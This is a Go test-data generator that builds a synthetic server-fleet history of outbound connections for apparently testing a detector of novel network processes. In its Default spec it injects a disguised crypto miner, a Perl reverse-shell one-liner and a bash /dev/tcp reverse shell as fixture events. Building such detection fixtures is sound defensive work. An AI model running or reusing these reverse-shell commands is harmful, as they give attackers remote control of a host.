// Package history generates a deterministic fleet history of outbound connections: regular
// processes that use the network every day, a process that talks only to loopback, and
// novel processes injected at chosen times. The same Spec always gives the same bytes, so
// tests can assert exact signals.
package history

import (
	"fmt"
	"io"
	"math/rand/v2"
	"slices"
	"time"

	"github.com/rarenet/rarenet/e2e/quality/sim"
)

// Spec describes a history.
type Spec struct {
	Seed  uint64
	Start time.Time
	Days  int
	Hosts int
	// Regulars is how many regular network processes the fleet runs (at most len(regulars)).
	Regulars int
	// PerBucket is how many connections an active regular makes per host and bucket.
	PerBucket int
	// Injections are the novel processes.
	Injections []Injection
	// LoopbackOnly is a process that appears late and connects to loopback only; it must
	// never signal.
	LoopbackOnly string
}

// Injection is a process that never used the network before At.
type Injection struct {
	At      time.Time
	Name    string
	Host    string
	User    string
	DestIP  string
	Port    int
	Args    []string
	Cwd     string
	Events  int
	Exe     string
	Comment string
}

// Event is one generated connection.
type Event = sim.Event

// regular is a process that uses the network as part of normal operation.
type regular struct {
	name, exe, user string
	uid             int
	ports           []int
	// every is the fraction of buckets in which it connects.
	every float64
}

var regulars = []regular{
	{"sshd", "/usr/sbin/sshd", "root", 0, []int{22}, 0.9},
	{"systemd-resolve", "/lib/systemd/systemd-resolved", "systemd-resolve", 101, []int{53}, 1},
	{"chronyd", "/usr/sbin/chronyd", "_chrony", 105, []int{123}, 1},
	{"curl", "/usr/bin/curl", "deploy", 1001, []int{443, 80}, 0.8},
	{"apt-get", "/usr/bin/apt-get", "root", 0, []int{80, 443}, 0.5},
	{"unattended-upgr", "/usr/bin/python3.11", "root", 0, []int{443}, 0.5},
	{"python3", "/usr/bin/python3.11", "app", 1002, []int{443, 5432}, 0.9},
	{"java", "/usr/lib/jvm/java-17/bin/java", "tomcat", 1003, []int{5432, 6379, 443}, 1},
	{"nginx", "/usr/sbin/nginx", "www-data", 33, []int{8080, 8443}, 1},
	{"node", "/usr/bin/node", "app", 1002, []int{443, 6379}, 0.9},
	{"postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres", 114, []int{5432}, 0.7},
	{"redis-server", "/usr/bin/redis-server", "redis", 115, []int{6379}, 0.6},
	{"filebeat", "/usr/share/filebeat/bin/filebeat", "root", 0, []int{9200}, 1},
	{"node_exporter", "/usr/local/bin/node_exporter", "prometheus", 998, []int{9090}, 0.8},
	{"containerd", "/usr/bin/containerd", "root", 0, []int{443}, 0.7},
	{"dockerd", "/usr/bin/dockerd", "root", 0, []int{443, 2376}, 0.7},
	{"kubelet", "/usr/bin/kubelet", "root", 0, []int{6443, 10250}, 1},
	{"etcd", "/usr/local/bin/etcd", "etcd", 997, []int{2379, 2380}, 1},
	{"coredns", "/coredns", "root", 0, []int{53}, 1},
	{"snapd", "/usr/lib/snapd/snapd", "root", 0, []int{443}, 0.4},
	{"ntpd", "/usr/sbin/ntpd", "ntp", 106, []int{123}, 0.6},
	{"rsyslogd", "/usr/sbin/rsyslogd", "syslog", 104, []int{514}, 0.8},
	{"zabbix_agentd", "/usr/sbin/zabbix_agentd", "zabbix", 112, []int{10051}, 0.9},
	{"git", "/usr/bin/git", "deploy", 1001, []int{22, 443}, 0.5},
	{"wget", "/usr/bin/wget", "deploy", 1001, []int{443}, 0.4},
	{"ssh", "/usr/bin/ssh", "deploy", 1001, []int{22}, 0.6},
	{"gunicorn", "/usr/bin/gunicorn", "app", 1002, []int{5432, 6379}, 1},
	{"celery", "/usr/bin/celery", "app", 1002, []int{5672, 6379}, 0.9},
	{"haproxy", "/usr/sbin/haproxy", "haproxy", 116, []int{8080}, 1},
	{"envoy", "/usr/local/bin/envoy", "envoy", 117, []int{8443, 9901}, 0.9},
	{"vault", "/usr/bin/vault", "vault", 118, []int{8200}, 0.7},
	{"consul", "/usr/bin/consul", "consul", 119, []int{8300, 8301}, 1},
	{"prometheus", "/usr/bin/prometheus", "prometheus", 998, []int{9100}, 1},
	{"grafana-server", "/usr/sbin/grafana-server", "grafana", 120, []int{3000, 9090}, 0.8},
	{"telegraf", "/usr/bin/telegraf", "telegraf", 121, []int{8086}, 0.9},
	{"fluent-bit", "/opt/fluent-bit/bin/fluent-bit", "root", 0, []int{24224}, 0.9},
	{"mysqld", "/usr/sbin/mysqld", "mysql", 122, []int{3306}, 0.6},
	{"memcached", "/usr/bin/memcached", "memcache", 123, []int{11211}, 0.5},
	{"rabbitmq-server", "/usr/lib/rabbitmq/bin/rabbitmq-server", "rabbitmq", 124, []int{5672}, 0.7},
	{"kafka", "/opt/kafka/bin/kafka", "kafka", 125, []int{9092}, 0.8},
	{"zookeeper", "/opt/zookeeper/bin/zkServer.sh", "zookeeper", 126, []int{2181}, 0.8},
	{"nscd", "/usr/sbin/nscd", "root", 0, []int{389}, 0.6},
	{"sssd_be", "/usr/libexec/sssd/sssd_be", "root", 0, []int{389, 636}, 0.7},
	{"puppet", "/opt/puppetlabs/bin/puppet", "root", 0, []int{8140}, 0.3},
	{"salt-minion", "/usr/bin/salt-minion", "root", 0, []int{4505, 4506}, 0.9},
	{"ruby", "/usr/bin/ruby", "app", 1002, []int{443}, 0.5},
	{"php-fpm8.2", "/usr/sbin/php-fpm8.2", "www-data", 33, []int{3306}, 0.8},
	{"dnsmasq", "/usr/sbin/dnsmasq", "dnsmasq", 127, []int{53}, 0.7},
}

// Default is the history of the end-to-end tests: three days of a 6-host fleet with 40
// regular processes, three novel processes late in the history, and a loopback-only one.
func Default() Spec {
	start := time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)
	return Spec{
		Seed: 42, Start: start, Days: 3, Hosts: 6, Regulars: 40, PerBucket: 2,
		LoopbackOnly: "redis-check",
		Injections: []Injection{
			{At: start.Add(50*time.Hour + 7*time.Minute), Name: "kworkerds", Host: "web-03", User: "www-data",
				DestIP: "45.9.148.99", Port: 3333, Exe: "/tmp/.X11-unix/kworkerds", Cwd: "/tmp/.X11-unix", Events: 3,
				Args: []string{"kworkerds", "-o", "stratum+tcp://45.9.148.99:3333"}, Comment: "miner named like a kernel thread"},
			{At: start.Add(58*time.Hour + 41*time.Minute), Name: "perl", Host: "web-01", User: "www-data",
				DestIP: "198.51.100.23", Port: 4444, Exe: "/usr/bin/perl", Cwd: "/var/www/html", Events: 1,
				Args:    []string{"perl", "-e", "use Socket;$i=\"198.51.100.23\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)))"},
				Comment: "perl reverse shell"},
			{At: start.Add(66*time.Hour + 2*time.Minute), Name: "bash", Host: "web-02", User: "www-data",
				DestIP: "203.0.113.77", Port: 443, Exe: "/usr/bin/bash", Cwd: "/var/www/html/uploads", Events: 2,
				Args: []string{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.77/443 0>&1"}, Comment: "web server's bash calling out"},
		},
	}
}

// Events generates the history's events in time order.
func Events(s Spec) []Event {
	rng := rand.New(rand.NewPCG(s.Seed, s.Seed^0x9e3779b97f4a7c15))
	const bucket = 15 * time.Minute
	buckets := s.Days * 24 * 4
	regs := regulars[:min(s.Regulars, len(regulars))]
	var out []Event
	for b := range buckets {
		t0 := s.Start.Add(time.Duration(b) * bucket)
		for h := range s.Hosts {
			host := fmt.Sprintf("web-%02d", h+1)
			for i, r := range regs {
				if rng.Float64() >= r.every {
					continue
				}
				for range s.PerBucket {
					port := r.ports[rng.IntN(len(r.ports))]
					out = append(out, Event{
						Time: t0.Add(time.Duration(rng.Int64N(int64(bucket)))).Truncate(time.Millisecond),
						Host: host, Name: r.name, Exe: r.exe, User: r.user, UID: r.uid,
						PID:    1000 + i*37 + h,
						DestIP: fmt.Sprintf("10.%d.%d.%d", 10+i%20, h, 1+rng.IntN(20)), Port: port,
						Args: []string{r.exe}, Cwd: "/", Outcome: "success",
					})
				}
			}
		}
		// The loopback-only process appears in the last day and never leaves the host.
		if s.LoopbackOnly != "" && b >= buckets-96 && b%8 == 0 {
			out = append(out, Event{Time: t0.Add(3 * time.Minute), Host: "web-04", Name: s.LoopbackOnly,
				Exe: "/usr/local/bin/" + s.LoopbackOnly, User: "redis", UID: 115, PID: 4242,
				DestIP: "127.0.0.1", Port: 6379, Args: []string{s.LoopbackOnly, "--ping"}, Cwd: "/", Outcome: "success"})
		}
	}
	for _, in := range s.Injections {
		for k := range in.Events {
			out = append(out, Event{Time: in.At.Add(time.Duration(k) * 20 * time.Second), Host: in.Host, Name: in.Name,
				Exe: in.Exe, User: in.User, UID: 33, PID: 31337 + k, DestIP: in.DestIP, Port: in.Port,
				Args: in.Args, Cwd: in.Cwd, Outcome: "success"})
		}
	}
	slices.SortStableFunc(out, func(a, b Event) int { return a.Time.Compare(b.Time) })
	return out
}

// WriteECS writes events as Auditbeat 8.x ECS NDJSON.
func WriteECS(w io.Writer, events []Event) error { return sim.WriteECS(w, events) }

// WriteAuditd writes events as raw auditd logs.
func WriteAuditd(w io.Writer, events []Event) error { return sim.WriteAuditd(w, events) }
